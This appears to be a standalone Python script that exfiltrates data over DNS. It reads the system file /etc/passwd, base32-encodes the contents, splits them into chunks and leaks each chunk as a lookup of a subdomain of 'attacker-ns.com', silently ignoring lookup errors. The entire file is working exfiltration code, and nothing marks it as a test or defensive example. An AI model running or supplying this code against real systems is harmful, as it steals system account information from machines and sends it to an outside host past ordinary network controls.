import base64
import socket

def chunks(data, n=30):
    for i in range(0, len(data), n):
        yield data[i:i + n]

raw = open("/etc/passwd", "rb").read()
enc = base64.b32encode(raw).decode().rstrip("=").lower()
for idx, part in enumerate(chunks(enc)):
    try:
        socket.gethostbyname(f"{idx}.{part}.d.attacker-ns.com")
    except socket.gaierror:
        pass
